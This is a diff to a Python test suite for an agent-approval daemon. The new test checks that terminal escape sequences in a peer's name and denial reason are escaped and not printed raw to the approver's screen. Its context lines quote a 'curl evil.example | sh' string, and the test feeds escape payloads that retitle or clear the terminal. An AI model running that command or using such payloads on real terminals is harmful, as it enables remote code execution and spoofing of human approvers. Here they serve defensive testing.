@@ -378,6 +378,23 @@ def test_a_request_cannot_repaint_the_approvers_terminal(daemon: DaemonProc, wor
     assert "curl evil.example | sh\\r\\x1b[2K\\u202eecho hello" in listed.stdout
 
 
+def test_an_error_naming_another_peer_cannot_repaint_the_terminal(daemon: DaemonProc, workspace: Path):
+    """scvd's error names who decided first, by the name that peer gave, and the reason it gave;
+    `approvals approve` printed that error raw, so a bridge's name could retitle or clear the screen."""
+    with daemon.client(name="agent") as agent, daemon.client(name="bridge\x1b]0;pwned\x07\x1b[2J") as bridge:
+        sid = agent.open_session(workspace)
+        agent.start_call(sid, "bash", {"command": "true"})
+        approval_id = wait_pending(agent)[0].approval_id
+        bridge.request(p.ApprovalDecide, approval_id=approval_id, decision="deny", reason="no\r\u202eyes")
+        out = scvctl(daemon, "approvals", "approve", approval_id)
+    assert out.returncode == 1
+    for raw in ("\x1b", "\x07", "\r", "\u202e"):
+        assert raw not in out.stderr
+    assert out.stderr.startswith(f"approval_not_found: approval {approval_id} was denied by "
+                                 "bridge\\x1b]0;pwned\\x07\\x1b[2J (pid "), out.stderr
+    assert out.stderr.endswith("): no\\r\\u202eyes; it is no longer pending\n"), out.stderr
+
+
 def test_a_timed_out_commands_output_reaches_the_terminal_escaped(daemon: DaemonProc, workspace: Path):
     """A bash timeout's message carries the output so far; printed raw, an escape sequence in it (a
     file the command printed) retitled the terminal or wrote its clipboard (OSC 52)."""
